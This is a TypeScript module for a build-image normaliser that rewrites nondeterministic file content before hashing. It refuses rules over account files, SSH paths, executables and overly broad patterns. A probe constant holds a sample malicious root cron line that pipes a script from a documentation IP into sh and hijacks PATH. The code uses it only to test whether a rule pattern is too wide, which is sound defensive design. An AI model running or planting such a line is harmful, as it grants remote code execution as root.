/**
 * Normaliser rules at work: what differs between two honest builds (ids drawn at random, times in logs) is rewritten
 * before it is hashed. A rule names exact paths and constrains the content; it never drops a file, and a file that is
 * executable, or decides who may log in, is never rewritten. What a rule touched carries its name in the manifest.
 */
import { RE2JS } from 're2js';
import { digestOf } from '../../crypto/canonical.ts';
import { type Digest, digestHex } from '../../crypto/digest.ts';
import { RefusedError, UsageError } from '../../errors.ts';
import { isExactPath } from '../../recipe/exact-path.ts';
import type { NormaliseRule } from '../../recipe/types.ts';
import { MAX_NORMALISED_FILE_BYTES, MAX_RULE_MATCH_BYTES, MAX_RULE_PATTERN_CHARACTERS, MAX_RULES } from './limits.ts';
import { ACCOUNT_PATHS, type DiskIdRule, type FileRule, NAMED_RULES } from './rules.ts';
import type { ManifestEntry } from './types.ts';

export interface Normaliser {
  /** Names the exact rules: two manifests are comparable only when it is the same. */
  readonly digest: Digest;
  /** Each once, in the order of the recipe. */
  readonly rules: readonly { readonly name: string; readonly version: number }[];
  /** Random disk ids count as zero. */
  readonly diskId: boolean;
  /** Why the rule of that name touches the entry with this path (`p1:/etc/machine-id`), and which version of it does. */
  explain(rule: string, path: string): { readonly reason: string; readonly version: number } | undefined;
  /** The rule for this file (path from the root of its file system), if its size and mode allow one. */
  ruleFor(file: { readonly path: string; readonly mode: number; readonly sizeBytes: number }): FileRule | undefined;
}

/** Sample of what a rule must not hide: a pattern that covers much of it says nothing about the content. */
const PROBE =
  '* * * * * root /bin/sh -c "wget -qO- http://203.0.113.7/x.sh | sh -s $(id -u)" # xX0zZ_9;PATH=/tmp:$PATH';
const MAX_PROBE_MATCH_CHARACTERS = 16;

/** Throws a `UsageError` or `RefusedError` that names the rule and what is wrong with it. */
export function compileRules(rules: readonly NormaliseRule[]): Normaliser {
  if (rules.length > MAX_RULES) {
    throw new UsageError('image/too-many-rules', `${rules.length} normaliser rules; at most ${MAX_RULES} are allowed`);
  }
  const data = rules.flatMap((rule) => (typeof rule === 'string' ? namedRule(rule) : [inlineRule(rule)]));
  const byPath = new Map<string, FileRule>();
  for (const rule of data) {
    if (!('paths' in rule)) continue;
    for (const path of rule.paths) {
      if (byPath.has(path)) {
        throw new UsageError('image/rule-conflict', `two normaliser rules name ${path}`, { facts: { path } });
      }
      byPath.set(path, rule);
    }
  }
  return {
    digest: digestOf({ normaliser: 1, rules: data }),
    rules: [...new Map(data.map(({ name, version }) => [`${name} ${version}`, { name, version }])).values()],
    diskId: data.some((rule) => rule.name === 'disk-id'),
    explain(name, path) {
      const inside = path.slice(path.indexOf(':') + 1);
      return data.find((rule) => rule.name === name && (!('paths' in rule) || rule.paths.includes(inside)));
    },
    ruleFor({ path, mode, sizeBytes }) {
      const rule = byPath.get(path);
      return rule !== undefined && sizeBytes <= rule.maxBytes && (mode & 0o6111) === 0 ? rule : undefined;
    },
  };
}

/** The content that counts in place of `content`; undefined where the rule's constraint does not hold. */
export function normaliseContent(rule: FileRule, content: Buffer): Buffer | undefined {
  if (rule.recordBytes !== undefined) return content.length % rule.recordBytes === 0 ? Buffer.alloc(0) : undefined;
  const text = content.toString('latin1');
  if (rule.whole !== undefined) return RE2JS.matches(rule.whole, text) ? Buffer.alloc(0) : undefined;
  if (rule.lines === undefined) return undefined;
  const { match, replacement } = rule.lines;
  const pattern = RE2JS.compile(match);
  let rewritten = 0;
  const lines = text.split('\n').map((line) => {
    const matcher = pattern.matcher(line);
    let result = '';
    let from = 0;
    while (matcher.find()) {
      const length = matcher.end() - matcher.start();
      if (length === 0 || length > MAX_RULE_MATCH_BYTES) continue;
      result += line.slice(from, matcher.start()) + replacement;
      from = matcher.end();
      rewritten += 1;
    }
    return result + line.slice(from);
  });
  return rewritten === 0 ? undefined : Buffer.from(lines.join('\n'), 'latin1');
}

/** What each rule touched, for people. */
export function countRules(
  entries: readonly ManifestEntry[],
): readonly { readonly rule: string; readonly paths: readonly string[] }[] {
  const paths = new Map<string, string[]>();
  for (const entry of entries) {
    if (!('rule' in entry) || entry.rule === undefined) continue;
    paths.set(entry.rule, [...(paths.get(entry.rule) ?? []), entry.path]);
  }
  return [...paths].map(([rule, touched]) => ({ rule, paths: touched }));
}

function namedRule(name: string): readonly (FileRule | DiskIdRule)[] {
  const rules = Object.hasOwn(NAMED_RULES, name) ? NAMED_RULES[name] : undefined;
  if (rules !== undefined) return rules;
  throw new UsageError('image/unknown-rule', `there is no normaliser rule called ${JSON.stringify(name)}`, {
    hint: `the rules are ${Object.keys(NAMED_RULES).join(', ')}; or write one out with path, content and reason`,
    facts: { rule: name },
  });
}

function inlineRule(rule: Exclude<NormaliseRule, string>): FileRule {
  const { path, content, reason, version = 1 } = rule;
  const facts = { path, content };
  const where = `the normaliser rule for ${JSON.stringify(path)}`;
  if (!isExactPath(path)) {
    throw new UsageError('image/bad-rule', `${where} needs one exact path from the root, such as /etc/fstab`, {
      facts,
    });
  }
  if (
    ACCOUNT_PATHS.some((each) => (each.endsWith('/') ? path.startsWith(each) : path === each)) ||
    /\/\.ssh\//.test(path)
  ) {
    throw new RefusedError('image/rule-forbidden', `${where} is refused: the file decides who may do what`, { facts });
  }
  if (!/^[ -~]+$/.test(content) || content.length > MAX_RULE_PATTERN_CHARACTERS) {
    throw new UsageError(
      'image/bad-rule',
      `${where} needs a pattern of ASCII characters, at most ${MAX_RULE_PATTERN_CHARACTERS}`,
      { facts },
    );
  }
  const matcher = compile(content, where).matcher(PROBE);
  let covered = 0;
  while (matcher.find()) {
    // All matches together: a pattern of one character, found everywhere, hides as much as one of many.
    covered += matcher.end() - matcher.start();
    if (covered <= MAX_PROBE_MATCH_CHARACTERS) continue;
    throw new RefusedError('image/rule-too-wide', `${where} is refused: its pattern matches nearly anything`, {
      hint: 'describe exactly what varies, for example [0-9a-f]{32}',
      facts,
    });
  }
  const name = `inline-${digestHex(digestOf({ path, content })).slice(0, 12)}`;
  const lines = { match: content, replacement: '{normalised}' };
  return { name, version, reason, paths: [path], maxBytes: MAX_NORMALISED_FILE_BYTES, lines };
}

function compile(pattern: string, where: string): RE2JS {
  try {
    return RE2JS.compile(pattern);
  } catch (cause) {
    const facts = { pattern };
    throw new UsageError('image/bad-rule', `${where} has a pattern that is no RE2 regular expression`, {
      cause,
      facts,
    });
  }
}
